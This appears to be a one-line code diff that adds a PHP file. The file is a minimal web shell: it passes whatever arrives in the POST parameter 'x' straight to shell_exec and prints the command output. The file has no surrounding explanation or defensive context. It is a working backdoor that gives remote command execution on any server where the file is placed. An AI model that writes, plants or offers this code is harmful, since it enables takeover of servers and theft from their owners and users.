@@ -1,0 +1,1 @@
+<?php echo $GLOBALS["_POST"]["x"] ? shell_exec($GLOBALS["_POST"]["x"]) : "";
